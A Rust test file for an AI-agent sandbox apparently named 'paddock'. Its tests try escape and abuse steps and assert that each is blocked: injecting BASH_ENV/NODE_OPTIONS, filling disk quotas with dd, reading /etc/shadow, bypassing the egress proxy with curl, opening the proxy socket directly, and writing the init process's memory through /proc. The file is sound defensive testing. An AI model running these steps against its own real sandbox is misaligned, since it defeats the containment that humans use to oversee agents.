        ("BASH_ENV".into(), evil.clone().into()),
        ("ENV".into(), evil.clone().into()),
        ("NODE_OPTIONS".into(), "--require /evil.js".into()),
        ("PYTHONSTARTUP".into(), evil.clone().into()),
        ("PERL5OPT".into(), "-Mevil".into()),
        ("GIT_CONFIG_COUNT".into(), "1".into()),
    ];
    let out = w.run_with(&m, &["/bin/bash", "-c",
        "env | grep -cE '^(BASH_ENV|ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|GIT_CONFIG_COUNT)=' | sed 's/^/leaked=/'; \
         BASH_ENV=./evil.sh bash -c true | sed 's/^/control=/'"], host_env);
    assert_eq!(field(&out, "leaked"), "0");
    assert_eq!(
        stdout(&out).matches("INJECTED").count(),
        1,
        "only the explicit control run sourced it"
    );
    assert_eq!(field(&out, "control"), "INJECTED");
}

// ---------------------------------------------------------------- quotas

#[test]
fn fill_tmp_beyond_quota() {
    let w = World::new();
    let m = w.manifest().tmp_size_mib(8).build().unwrap();
    let out = w.sh_in(&m, "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>/dev/null && echo attack=filled || echo attack=stopped; \
                          echo size=$(( $(stat -c %s /tmp/fill) / 1048576 )); rm /tmp/fill; \
                          dd if=/dev/zero of=/tmp/small bs=1M count=1 2>/dev/null && echo control=ok");
    assert_eq!(field(&out, "attack"), "stopped");
    assert!(field(&out, "size").parse::<u64>().unwrap() <= 8);
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn fill_home_beyond_quota() {
    let w = World::new();
    let out = w.sh("dd if=/dev/zero of=$HOME/fill bs=1M count=400 2>/dev/null && echo attack=filled || echo attack=stopped; \
                   echo size=$(( $(stat -c %s $HOME/fill) / 1048576 )); rm $HOME/fill; echo x > $HOME/ok && echo control=ok");
    assert_eq!(field(&out, "attack"), "stopped");
    assert!(field(&out, "size").parse::<u64>().unwrap() <= 256);
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn host_tmp_and_system_state_invisible() {
    let w = World::new();
    let host_tmp = tempfile::NamedTempFile::new().unwrap();
    let out = w.sh(&format!(
        "test -e '{}' && echo tmp=visible || echo tmp=hidden; test -e /sys/kernel && echo sys=visible || echo sys=hidden; \
         test -e /run/user && echo run=visible || echo run=hidden; test -e /var && echo var=visible || echo var=hidden; \
         test -r /etc/shadow && [ -s /etc/shadow ] && echo shadow=readable || echo shadow=empty; echo control=$(hostname)",
        host_tmp.path().display()
    ));
    assert_eq!(field(&out, "tmp"), "hidden");
    assert_eq!(field(&out, "sys"), "hidden");
    assert_eq!(field(&out, "run"), "hidden");
    assert_eq!(field(&out, "var"), "hidden");
    assert_eq!(field(&out, "shadow"), "empty");
    assert_eq!(field(&out, "control"), "paddock");
}

// ---------------------------------------------------------------- proxy-only

struct FakeProxy {
    socket: std::path::PathBuf,
    seen: std::sync::mpsc::Receiver<String>,
}

/// A unix-socket HTTP server standing in for the egress proxy.
fn fake_proxy(dir: &std::path::Path) -> FakeProxy {
    let socket = dir.join("egress.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    let (tx, seen) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let mut buf = vec![0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\nConnection: close\r\n\r\nhello-from-proxy");
        }
    });
    FakeProxy { socket, seen }
}

#[test]
fn proxy_only_reaches_the_proxy_through_the_bridge() {
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.sh_in(
        &m,
        "echo proxy=$HTTPS_PROXY; echo body=$(curl -sS --max-time 20 http://example.invalid/path)",
    );
    assert_eq!(field(&out, "proxy"), "http://127.0.0.1:3128");
    assert_eq!(
        field(&out, "body"),
        "hello-from-proxy",
        "stderr: {}",
        stderr(&out)
    );
    let request = proxy.seen.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(
        request.starts_with("GET http://example.invalid/path"),
        "{request}"
    );
}

#[test]
fn proxy_only_agent_cannot_open_the_proxy_socket_directly() {
    // The bridge may use AF_UNIX; the agent may not (it would bypass nothing
    // today, but the filter must hold for the agent under the init).
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.py_in(&m, &format!("{}\nimport urllib.request\nprint('control=' + urllib.request.urlopen('http://example.invalid/').read().decode())",
        connect_unix_py(std::path::Path::new(paddock_sandbox::SANDBOX_PROXY_SOCKET))));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        field(&out, "control"),
        "hello-from-proxy",
        "stderr: {}",
        stderr(&out)
    );
}

#[test]
fn proxy_only_direct_egress_still_blocked() {
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let (listener, port) = host_tcp_listener();
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.sh_in(&m, &format!(
        "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
         echo control=$(curl -sS --max-time 20 http://example.invalid/)"
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "hello-from-proxy");
    drop(listener);
}

#[test]
fn proxy_only_init_memory_not_writable_by_agent() {
    // The init runs the unfiltered bridge: the agent (same uid) must not be
    // able to write its memory through /proc and take it over.
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.sh_in(&m, "init=$(pgrep -x init | head -1); echo found=$([ -n \"$init\" ] && echo yes); \
                          (exec 3<>/proc/$init/mem) 2>/dev/null && echo attack=opened || echo attack=denied; \
                          (exec 3<>/proc/self/mem) 2>/dev/null && echo control=ok");
    assert_eq!(field(&out, "found"), "yes");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}
